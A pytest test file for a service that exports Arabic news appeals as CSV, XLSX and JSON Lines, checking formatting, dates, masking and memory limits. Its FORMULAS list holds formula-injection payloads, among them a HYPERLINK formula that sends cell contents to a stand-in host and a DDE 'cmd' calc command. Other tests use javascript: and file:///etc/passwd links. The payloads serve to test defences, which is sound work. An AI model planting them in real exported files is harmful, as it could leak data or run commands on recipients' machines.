"""What goes out as CSV, XLSX and JSON Lines opens everywhere, and runs nowhere."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc
import zipfile
from collections.abc import Iterable, Iterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from index_corpus import corpus
from lxml import etree

from index import Document, Field, Query, open_index
from service.cells import LONGEST_CELL, cut, defused, plain
from service.exporting import DOCUMENT_COLUMNS, csv_lines, json_lines
from service.labels import labels
from service.masking import MaskedIndex
from service.workbook import write_workbook

ARABIC, ENGLISH = labels("ar"), labels("en")
SPREADSHEET = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}

DOCUMENT = Document(
    id="a" * 64,
    version=3,
    url="https://agency.example/1?a=1&b=2",
    title="أهالي الكوت يناشدون المحافظ إعادة الماء",
    body="اتصلوا بنا على 07701234567.",
    outlet="agency",
    outlet_name="وكالة النهر",
    published=datetime(2026, 11, 20, 22, 30, tzinfo=UTC),
    fetched=datetime(2026, 11, 20, 22, 31, tzinfo=UTC),
    stance="appeal",
    urgency="high",
    needs=("water", "health"),
    governorates=("IQ-WA",),
    primary=("IQ-WA",),
    case="case-1",
    case_state="verified",
    analysis={
        "facilities": [{"text": "مشروع ماء الكوت", "start": 0, "end": 1, "type": "water", "governorate": "IQ-WA"}],
        "appeals": [
            {
                "appellants": [{"text": "أهالي الكوت", "start": 0, "end": 11}],
                "addressees": [{"text": "المحافظ", "start": 0, "end": 1}],
                "facilities": [{"text": "مستشفى الزهراء", "start": 0, "end": 1}],
                "summary": "أهالي الكوت يطلبون إعادة الماء.",
            }
        ],
    },
)


def _csv(documents: Iterable[Document], words: Any = ARABIC) -> list[list[str]]:
    written = b"".join(csv_lines(documents, DOCUMENT_COLUMNS, words))
    assert written.startswith(b"\xef\xbb\xbf")
    text = written.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


class Sheet:
    """A sheet read back as Office does: cells by reference, with their kind."""

    def __init__(self, written: bytes, number: int = 1) -> None:
        with zipfile.ZipFile(io.BytesIO(written)) as archive:
            assert archive.testzip() is None
            self.names = archive.namelist()
            for name in self.names:
                if name.endswith((".xml", ".rels")):
                    etree.fromstring(archive.read(name))
            self.root = etree.fromstring(archive.read(f"xl/worksheets/sheet{number}.xml"))
            links = f"xl/worksheets/_rels/sheet{number}.xml.rels"
            relations = etree.fromstring(archive.read(links)) if links in self.names else ()
            self.links = [relation.get("Target") for relation in relations]
            self.styles = etree.fromstring(archive.read("xl/styles.xml"))

    def one(self, path: str) -> Any:
        (found,) = self.root.xpath(path, namespaces=SPREADSHEET)
        return found

    def rows(self) -> Iterator[dict[str, str]]:
        for row in self.root.iterfind(".//m:row", SPREADSHEET):
            yield {
                cell.get("r").rstrip("0123456789"): "".join(cell.itertext())
                for cell in row.iterfind("m:c", SPREADSHEET)
            }


def _xlsx(documents: Iterable[Document], words: Any = ARABIC) -> Sheet:
    file = io.BytesIO()
    write_workbook(file, documents, DOCUMENT_COLUMNS, words, title=words.text("export_sheet"))
    return Sheet(file.getvalue())


def test_a_csv_has_what_an_editor_needs_under_arabic_headings() -> None:
    head, row = _csv([DOCUMENT])
    told = dict(zip(head, row, strict=True))
    assert told == {
        "العنوان": DOCUMENT.title,
        "المنفذ": "وكالة النهر",
        "نُشرت (بتوقيت بغداد)": "2026-11-21 01:30:00",
        "النوع": "مناشدة",
        "العجلة": "عاجل",
        "المحافظة": "واسط",
        "الحاجات": "ماء، صحة",
        "المنشآت": "مستشفى الزهراء، مشروع ماء الكوت",
        "من يناشد": "أهالي الكوت",
        "من يُناشَد": "المحافظ",
        "الخلاصة": "أهالي الكوت يطلبون إعادة الماء.",
        "القضية": "case-1",
        "حالة القضية": "متحقق منها",
        "الرابط": DOCUMENT.url,
        "المعرّف": DOCUMENT.id,
    }
    assert _csv([DOCUMENT], ENGLISH)[1][3:7] == ["Appeal", "Urgent", "Wasit", "Water, Health"]


def test_lines_end_as_the_rfc_wants_and_nothing_found_leaves_the_heading() -> None:
    written = b"".join(csv_lines([DOCUMENT], DOCUMENT_COLUMNS, ARABIC))
    assert written.count(b"\r\n") == written.count(b"\n") == 2
    assert len(_csv([])) == 1
    assert b"".join(json_lines([])) == b""


FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://a.example/?"&A1,"اضغط")',
    "+9647701234567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u200f=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
    "＝1+1",
    '";=1+1',
]


@pytest.mark.parametrize("payload", FORMULAS)
def test_no_cell_of_a_csv_begins_a_formula(payload: str) -> None:
    span = {"text": payload, "start": 0, "end": 1}
    appeal = {"appellants": [span], "addressees": [span], "facilities": [span], "summary": payload}
    poisoned = replace(
        DOCUMENT,
        title=payload,
        outlet_name=payload,
        url=payload,
        stance=payload,
        needs=(payload,),
        analysis={"facilities": [span], "appeals": [appeal]},
    )
    _, row = _csv([poisoned])
    for cell in row:
        seen = cell.lstrip(" \u200f\u202e\ufeff\x00")
        assert not seen.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝")), cell
    assert row[0].endswith(plain(payload))


@given(st.text())
def test_any_text_is_defused_or_begins_harmlessly(text: str) -> None:
    cell = defused(plain(text))
    assert cell[:1] not in set("=+-@\t\r\n")
    assert cell.removeprefix("'") == plain(text).removeprefix("'")


@pytest.mark.parametrize("number", ["07701234567", "٠٧٧٠١٢٣٤٥٦٧", "0770 123 4567", "(0770) 123-4567", "198512345678"])
def test_a_telephone_number_stays_text(number: str) -> None:
    assert _csv([replace(DOCUMENT, title=number)])[1][0] == f"'{number}"
    (cell,) = (row["A"] for row in list(_xlsx([replace(DOCUMENT, title=number)]).rows())[1:])
    assert cell == number


def test_ordinary_text_is_left_as_it_is() -> None:
    for text in (DOCUMENT.title, "42 خيمة", "a-b", "2026", 'قال: "نعم"، وسكت\nثم مضى'):
        assert _csv([replace(DOCUMENT, title=text)])[1][0] == text


def test_what_reorders_or_breaks_cells_is_taken_out() -> None:
    title = "ناشد \u202eقلب\u202c \ud800 \x00\x0b\x1f\ufffe\uffff المحافظ"
    assert _csv([replace(DOCUMENT, title=title)])[1][0] == "ناشد قلب   المحافظ"
    assert list(_xlsx([replace(DOCUMENT, title=title)]).rows())[1]["A"] == "ناشد قلب   المحافظ"


@given(st.text(alphabet=st.characters(exclude_categories=())))
def test_any_title_makes_a_workbook_that_opens(title: str) -> None:
    rows = list(_xlsx([replace(DOCUMENT, title=title, url=title)]).rows())
    assert rows[1].get("A", "") == plain(title)


def test_a_workbook_runs_from_right_to_left_with_a_fixed_heading_that_filters() -> None:
    sheet = _xlsx([DOCUMENT, DOCUMENT])
    assert sheet.one("//m:sheetView").get("rightToLeft") == "1"
    assert sheet.one("//m:pane").get("state") == "frozen"
    assert sheet.one("//m:pane").get("ySplit") == "1"
    assert sheet.one("//m:autoFilter").get("ref") == "A1:O3"
    assert len(sheet.root.findall(".//m:col", SPREADSHEET)) >= 10
    assert _xlsx([DOCUMENT], ENGLISH).one("//m:sheetView").get("rightToLeft") is None


def test_dates_in_a_workbook_are_dates_in_baghdad() -> None:
    sheet = _xlsx([DOCUMENT, replace(DOCUMENT, published=datetime(1400, 1, 1, tzinfo=UTC))])
    cell = sheet.one("//m:c[@r='C2']")
    assert cell.get("t") is None
    assert float("".join(cell.itertext())) == pytest.approx(46347 + 1.5 / 24)  # 21 November 2026, 01:30
    style = sheet.styles.findall(".//m:cellXfs/m:xf", SPREADSHEET)[int(cell.get("s"))]
    formats = {one.get("numFmtId"): one.get("formatCode") for one in sheet.styles.iterfind(".//m:numFmt", SPREADSHEET)}
    assert formats[style.get("numFmtId")] == "yyyy-mm-dd hh:mm"
    assert sheet.one("//m:c[@r='C3']").get("t") == "inlineStr"


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_workbook_holds_no_formula_and_links_only_to_the_web(payload: str) -> None:
    poisoned = replace(DOCUMENT, title=payload, outlet_name=payload, url=payload)
    sheet = _xlsx([poisoned, replace(DOCUMENT, url="javascript:alert(1)"), replace(DOCUMENT, url="file:///etc/passwd")])
    assert sheet.root.findall(".//m:f", SPREADSHEET) == []
    assert sheet.links == []
    assert list(sheet.rows())[1].get("A", "") == plain(payload)
    assert _xlsx([DOCUMENT]).links == [DOCUMENT.url]


def test_a_cell_is_cut_where_excel_would_refuse_it_and_says_so() -> None:
    for letter in ("ن", "😢"):
        long = replace(DOCUMENT, title=letter * 40_000)
        for cell in (list(_xlsx([long]).rows())[1]["A"], _csv([long])[1][0]):
            assert cell.endswith("… [قُصّ النص هنا]")
            assert LONGEST_CELL - 1 <= len(cell.encode("utf-16-le")) // 2 <= LONGEST_CELL
    assert cut("ن" * LONGEST_CELL, "…") == "ن" * LONGEST_CELL


def test_a_full_sheet_goes_on_in_another(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("service.workbook.ROWS", 2)
    file = io.BytesIO()
    assert write_workbook(file, [DOCUMENT] * 5, DOCUMENT_COLUMNS, ARABIC, title="راصد") == 5
    assert [len(list(Sheet(file.getvalue(), number).rows())) for number in (1, 2, 3)] == [3, 3, 2]


def test_json_lines_have_every_field_and_the_whole_analysis() -> None:
    (line,) = b"".join(json_lines([DOCUMENT])).decode().splitlines()
    read = json.loads(line)
    assert read["published"] == "2026-11-20T22:30:00+00:00"
    assert read["needs"] == ["water", "health"]
    assert read["analysis"] == DOCUMENT.analysis
    assert set(read) == set(Document.__slots__)


def test_json_lines_are_lines_of_utf_8_whatever_was_scraped() -> None:
    odd = replace(DOCUMENT, title="سطر\nآخر\u2028 \ud83d x \u202e", body="\x00=1+1")
    written = b"".join(json_lines([odd, odd]))
    first, second = written.decode("utf-8").removesuffix("\n").split("\n")
    assert first == second
    assert json.loads(first)["title"] == "سطر\nآخر\u2028 \ufffd x \u202e"
    assert json.loads(first)["body"] == odd.body


@pytest.fixture(params=["sqlite", "elasticsearch"])
def index_url(request: pytest.FixtureRequest, tmp_path: Path) -> str:
    if request.param == "sqlite":
        return f"sqlite:///{tmp_path}/index.db"
    url: str = request.getfixturevalue("elasticsearch_url")
    return url


def test_two_thousand_documents_go_out_whole_in_bounded_memory(index_url: str, tmp_path: Path) -> None:
    with open_index(index_url) as index:
        index.write(corpus(2_000))
        index.refresh()
        everything, told = Query(), []
        for write in (
            lambda: csv_lines(index.scan(everything), DOCUMENT_COLUMNS, ARABIC, told.append),
            lambda: json_lines(index.scan(everything), told.append),
        ):
            told.clear()
            tracemalloc.start()
            size = sum(len(chunk) for chunk in write())
            peak = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
            assert told == list(range(1, 2_001))
            assert size > 500_000
            assert peak < 8_000_000
        with (tmp_path / "out.xlsx").open("wb") as file:
            tracemalloc.start()
            written = write_workbook(file, index.scan(everything), DOCUMENT_COLUMNS, ARABIC, title="راصد")
            peak = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
        assert (written, peak < 16_000_000) == (2_000, True)
        assert len(list(Sheet((tmp_path / "out.xlsx").read_bytes()).rows())) == 2_001


def test_an_export_has_what_the_search_finds_the_newest_first(index_url: str) -> None:
    with open_index(index_url) as index:
        index.write(corpus(300))
        index.refresh()
        query = Query(text="الماء", filters={Field.GOVERNORATE: ("IQ-BA",)})
        rows = [json.loads(line) for line in b"".join(json_lines(index.scan(query))).decode().splitlines()]
        assert len(rows) == index.search(query).total > 0
        assert [row["published"] for row in rows] == sorted((row["published"] for row in rows), reverse=True)


def test_a_masked_index_exports_no_private_number(tmp_path: Path) -> None:
    with open_index(f"sqlite:///{tmp_path}/index.db") as index:
        index.write([replace(DOCUMENT, title="اتصلوا على 07701234567")])
        index.refresh()
        masked = MaskedIndex(index)
        for written in (
            b"".join(json_lines(masked.scan(Query()))),
            b"".join(csv_lines(masked.scan(Query()), DOCUMENT_COLUMNS, ARABIC)),
        ):
            assert "0770123456" not in written.decode()
            assert "•" in written.decode()


def test_an_export_that_is_given_up_lets_the_index_go(index_url: str) -> None:
    with open_index(index_url) as index:
        index.write(corpus(300))
        index.refresh()
        chunks = json_lines(index.scan(Query()))
        next(chunks)
        del chunks
        assert index.write([DOCUMENT]).stored == 1
